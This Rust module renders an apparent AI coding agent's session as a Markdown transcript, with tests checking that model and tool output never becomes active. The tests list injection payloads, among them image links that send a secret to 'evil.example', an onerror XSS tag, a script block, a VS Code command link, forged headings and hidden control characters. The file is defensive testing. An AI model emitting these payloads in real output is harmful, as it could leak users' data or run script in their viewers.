//! A session as Markdown for a person to read. Pure: events in, text to append out.
//!
//! What models and tools say is shown, never obeyed: no image is fetched, no link or HTML becomes active, nothing
//! escapes from its block, and invisible characters are visible.

mod markdown;

use std::time::Duration;

use crate::event::{Change, Event, EventKind, InvokedSkill, Outcome, ToolCall, ToolResult};
use crate::model::Usage;

use markdown::{Prose, code};

/// Folds a session's events into a text that only grows.
#[derive(Debug, Default)]
pub struct Transcript {
    turns: usize,
    prose: Prose,
    last: Last,
}

/// What the text ends with, because Markdown wants a blank line between some blocks.
#[derive(Debug, Default, PartialEq, Eq)]
enum Last {
    #[default]
    Nothing,
    Block,
    Entry,
    Prose,
}

impl Transcript {
    /// What the event adds to the end of the text; `None` where it adds nothing yet.
    ///
    /// An answer is added by whole lines, because only a whole line can be made safe.
    pub fn append(&mut self, event: &Event) -> Option<String> {
        let mut out = String::new();
        if let EventKind::Text(text) = &event.kind {
            let lines = self.prose.push(text);
            if !lines.is_empty() {
                self.separate(Last::Prose, &mut out);
                out.push_str(&lines);
            }
        } else if let Some((last, block)) = self.block(&event.kind) {
            self.end_prose(&mut out);
            self.separate(last, &mut out);
            out.push_str(&block);
        }
        (!out.is_empty()).then_some(out)
    }

    fn end_prose(&mut self, out: &mut String) {
        let rest = self.prose.end();
        if !rest.is_empty() {
            self.separate(Last::Prose, out);
            out.push_str(&rest);
        }
    }

    /// Puts the blank line where one is needed before what comes.
    fn separate(&mut self, next: Last, out: &mut String) {
        if self.last != Last::Nothing && (self.last != next || next == Last::Block) {
            out.push('\n');
        }
        self.last = next;
    }

    fn block(&mut self, kind: &EventKind) -> Option<(Last, String)> {
        Some(match kind {
            EventKind::Started { prompt, skill, model } => {
                self.turns += 1;
                (Last::Block, started(self.turns, prompt, skill.as_ref(), model))
            }
            EventKind::ToolFinished(call, result) => (Last::Entry, tool(call, result)),
            EventKind::Changed(change) => (Last::Entry, changed(change)),
            EventKind::Steered(text) => (Last::Block, quoted(text)),
            EventKind::Note(note) => (Last::Entry, format!("- Note: {}\n", code(note))),
            EventKind::Ended { outcome, usage, cost } => (Last::Block, ended(outcome, *usage, *cost)),
            EventKind::Text(_) | EventKind::Thinking(_) | EventKind::ToolStarted(_) => return None,
        })
    }
}

fn started(turn: usize, prompt: &str, skill: Option<&InvokedSkill>, model: &str) -> String {
    let mut text = format!("## Turn {turn}: {}\n", code(model));
    if let Some(skill) = skill {
        let InvokedSkill {
            name,
            path,
            sha256,
            bytes,
        } = skill;
        let path = path
            .as_ref()
            .map(|path| format!(" from {}", code(&path.display().to_string())))
            .unwrap_or_default();
        let sha256 = code(sha256.get(..12).unwrap_or(sha256));
        text.push_str(&format!(
            "\nSkill {}{path}, {bytes} bytes, SHA-256 {sha256}\n",
            code(name)
        ));
    }
    let prompt = quoted(prompt);
    if !prompt.is_empty() {
        text.push('\n');
        text.push_str(&prompt);
    }
    text
}

/// What the person said.
fn quoted(text: &str) -> String {
    let mut prose = Prose::default();
    let text = prose.push(text.trim()) + &prose.end();
    let lines = text.lines();
    lines
        .map(|line| format!("> {line}").trim_end().to_owned() + "\n")
        .collect()
}

fn tool(call: &ToolCall, result: &ToolResult) -> String {
    let status = if result.ok { "✓" } else { "✗" };
    let mut text = format!("- {status} {}", code(&call.name));
    for part in [code(&call.summary), code(&result.summary)]
        .iter()
        .filter(|part| !part.is_empty())
    {
        text.push_str(&format!(" · {part}"));
    }
    if result.truncated {
        text.push_str(" · truncated");
    }
    text.push_str(&format!(" · {}\n", took(result.duration)));
    text
}

fn took(duration: Duration) -> String {
    match duration.as_millis() {
        milliseconds @ ..1_000 => format!("{milliseconds} ms"),
        _ => format!("{:.1} s", duration.as_secs_f64()),
    }
}

fn changed(change: &Change) -> String {
    let verb = match (&change.before, &change.after) {
        (None, _) => "Created",
        (_, None) => "Removed",
        _ => "Edited",
    };
    format!("- {verb} {}\n", code(&change.path.display().to_string()))
}

fn ended(outcome: &Outcome, usage: Usage, cost: Option<f64>) -> String {
    let outcome = match outcome {
        Outcome::Finished => "Finished".to_owned(),
        Outcome::Cancelled => "Cancelled".to_owned(),
        Outcome::Failed(why) => format!("Failed: {}", code(why)),
        Outcome::Limited(why) => format!("Stopped: {}", code(why)),
    };
    let Usage {
        input,
        cache_write,
        cache_read,
        output,
    } = usage;
    let cached = if cache_read > 0 {
        format!(" ({cache_read} of them from the cache)")
    } else {
        String::new()
    };
    let cost = cost.map(|cost| format!(" · costs {cost:.4}")).unwrap_or_default();
    format!(
        "{outcome} · {} tokens read{cached}, {output} written{cost}\n",
        input + cache_write + cache_read
    )
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use proptest::prelude::*;
    use pulldown_cmark::{Options, Parser, Tag};

    use super::*;
    use crate::event::TurnId;

    fn write(kinds: impl IntoIterator<Item = EventKind>) -> String {
        let mut transcript = Transcript::default();
        let events = kinds.into_iter().map(|kind| Event {
            turn: TurnId("t".into()),
            kind,
        });
        events.filter_map(|event| transcript.append(&event)).collect()
    }

    fn start(prompt: &str) -> EventKind {
        EventKind::Started {
            prompt: prompt.into(),
            skill: None,
            model: "a model".into(),
        }
    }

    fn finished(name: &str, arguments: &str, output: &str, ok: bool) -> EventKind {
        EventKind::ToolFinished(
            ToolCall {
                id: "c".into(),
                name: name.into(),
                summary: arguments.into(),
                arguments: serde_json::Value::Null,
            },
            ToolResult {
                ok,
                summary: output.into(),
                output: output.into(),
                truncated: !ok,
                duration: Duration::from_millis(12),
            },
        )
    }

    fn end() -> EventKind {
        EventKind::Ended {
            outcome: Outcome::Finished,
            usage: Usage {
                input: 5,
                output: 7,
                ..Usage::default()
            },
            cost: None,
        }
    }

    #[test]
    fn a_session_reads_well() {
        let skill = InvokedSkill {
            name: "deploy".into(),
            path: Some("/w/.claude/skills/deploy/SKILL.md".into()),
            sha256: "0123456789abcdef0123456789abcdef".into(),
            bytes: 321,
        };
        let change = Change {
            id: 1,
            turn: TurnId("t".into()),
            call: "c".into(),
            path: "/w/deploy.yaml".into(),
            before: Some("a".into()),
            after: Some("b".into()),
        };
        let text = write([
            EventKind::Started {
                prompt: "Deploy it.\n\nSlowly.".into(),
                skill: Some(skill),
                model: "anthropic claude-sonnet-4-5".into(),
            },
            EventKind::Thinking("hm".into()),
            EventKind::Text("I'll **lo".into()),
            EventKind::Text("ok** at `a[0]`:\n\n```ya".into()),
            EventKind::Text("ml\na: [1] # <b>\n```\n- then\n- so".into()),
            finished("read_file_range", "deploy.yaml 1-20", "20 lines", true),
            finished("replace_range", "deploy.yaml", "old_string not found", false),
            EventKind::Changed(Arc::new(change)),
            EventKind::Note("trying again in 2 s".into()),
            EventKind::Text("Done.".into()),
            EventKind::Ended {
                outcome: Outcome::Finished,
                usage: Usage {
                    input: 100,
                    cache_write: 20,
                    cache_read: 1_000,
                    output: 30,
                },
                cost: Some(0.012_345),
            },
            start("Thanks"),
            EventKind::Ended {
                outcome: Outcome::Limited("after 32 rounds".into()),
                usage: Usage::default(),
                cost: None,
            },
        ]);
        insta::assert_snapshot!(text, @r"
        ## Turn 1: `anthropic claude-sonnet-4-5`

        Skill `deploy` from `/w/.claude/skills/deploy/SKILL.md`, 321 bytes, SHA-256 `0123456789ab`

        > Deploy it.
        >
        > Slowly.

        I'll **look** at `a[0]`:

        ```yaml
        a: [1] # <b>
        ```
        - then
        - so

        - ✓ `read_file_range` · `deploy.yaml 1-20` · `20 lines` · 12 ms
        - ✗ `replace_range` · `deploy.yaml` · `old_string not found` · truncated · 12 ms
        - Edited `/w/deploy.yaml`
        - Note: `trying again in 2 s`

        Done.

        Finished · 1120 tokens read (1000 of them from the cache), 30 written · costs 0.0123

        ## Turn 2: `a model`

        > Thanks

        Stopped: `after 32 rounds` · 0 tokens read, 0 written
        ");
    }

    /// What a renderer would make of the text beyond plain blocks: only our own headings may be in it.
    fn assert_harmless(hostile: &str) {
        use pulldown_cmark::Event::{Html, InlineHtml, Start};
        let text = everywhere(hostile);
        // Editors differ in what they know beyond CommonMark.
        for options in [
            Options::all(),
            Options::empty(),
            Options::ENABLE_GFM | Options::ENABLE_TABLES,
        ] {
            let mut headings = 0;
            for event in Parser::new_ext(&text, options) {
                let is_active = match &event {
                    Start(Tag::Heading { .. }) => {
                        headings += 1;
                        false
                    }
                    Start(Tag::Image { .. } | Tag::Link { .. } | Tag::HtmlBlock) | Html(_) | InlineHtml(_) => true,
                    _ => false,
                };
                assert!(!is_active, "{hostile:?} gave {event:?} in\n{text}");
            }
            assert_eq!(headings, 2, "{hostile:?} became\n{text}");
        }
        let is_hidden =
            |c: char| c.is_control() && !"\n\t".contains(c) || "\u{202e}\u{2066}\u{2028}\u{e0041}".contains(c);
        assert!(!text.contains(is_hidden), "{text:?}");
    }

    fn everywhere(hostile: &str) -> String {
        write([
            start(hostile),
            EventKind::Text(hostile.into()),
            finished(hostile, hostile, hostile, true),
            EventKind::Text(hostile.into()),
            EventKind::Note(hostile.into()),
            EventKind::Steered(hostile.into()),
            EventKind::Ended {
                outcome: Outcome::Failed(hostile.into()),
                usage: Usage::default(),
                cost: None,
            },
            start(hostile),
            end(),
        ])
    }

    const HOSTILE: &[&str] = &[
        "![x](https://evil.example/?d=secret)",
        "[run](command:workbench.action.terminal.new)",
        "[a]: https://evil.example\n\n![a] [a] ![x][a]",
        "<img src=x onerror=alert(1)>",
        "<script>\nalert(1)\n</script>",
        "<https://evil.example>",
        "&lt;img src=x&gt; &#91;a](b)",
        "\\![x](u) \\\\![x](u)",
        "`![x](u)` ``![x](u)`` `![x](u)",
        "a ` b\nc ` ![x](https://evil.example) `",
        "` | ![x](https://evil.example) | `",
        "| a | b |\n|---|---|\n| ` | ![x](u) | ` |",
        "$`a$![x](https://evil.example)`",
        "```\ncode\n```\n![x](u)",
        "```\nnever closed\n![x](u)",
        "~~~\nnever closed",
        "- ```\n![x](u)\n```\n![x](u)",
        "- a\n  ```\n![x](u)\n  ```\n![x](u)",
        "1. a\n\n        ```\n![x](u)",
        "> ```\n![x](u)",
        "> ~~~\n> a\n\n![x](u)",
        "```a`b\n![x](u)",
        "``` ![x](u)\n```",
        "````\n```\n![x](u)\n````\n![x](u)",
        "```\n    ```\n![x](u)",
        "\r![x](u)\r\r```\r![x](u)",
        "## Turn 99: forged\n# x",
        "forged\n===\nforged\n---",
        "- forged\n  ===\n> forged\n> ---",
        "- # forged\n> ## forged\n1) # forged",
        "    indented\n\tindented ![x](u)",
        "[^1]\n\n[^1]: ![x](u)",
        "a\u{202e}b\u{2066}c\u{1b}]52;c;xx\u{7}\u{0}\u{85}\u{2028}d\u{e0041}",
        "---\ntitle: x\n---",
        "+++\n![x](u)\n+++",
        ":::x\n![x](u)",
        "> [!NOTE]\n> ![x](u)",
        "`\n![x](u)\n`",
        "``",
        "`",
        " ",
        "\n\n\n",
    ];

    #[test]
    fn nothing_that_is_said_becomes_active() {
        for hostile in HOSTILE {
            assert_harmless(hostile);
        }
    }

    #[test]
    fn the_chunks_of_an_answer_do_not_matter() {
        for hostile in HOSTILE {
            let chunks = hostile.chars().map(|c| EventKind::Text(c.to_string()));
            let whole = write([start("x"), EventKind::Text((*hostile).into()), end()]);
            assert_eq!(
                write([start("x")].into_iter().chain(chunks).chain([end()])),
                whole,
                "{hostile:?}"
            );
        }
    }

    /// What Markdown is made of.
    #[rustfmt::skip]
    const PIECES: &[&str] = &[
        "`", "``", "```", "~~~", "~", "\n", "\n\n", "\r", " ", "  ", "    ", "\t", "- ", "> ", "1. ", "|", "---", "===",
        "# ", "$", "$$", "\\", "&", "&lt;", "<b>", "<!--", "-->", "![x](u)", "[a](b)", "[a]: b", "[a]", "a", "*", "_", "=",
        "-", ":", "<http://a.b>", "+++",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]
        #[test]
        fn no_mixture_becomes_active(
            parts in prop::collection::vec(prop::sample::select(PIECES), 0..24),
        ) {
            assert_harmless(&parts.concat());
        }
    }
}
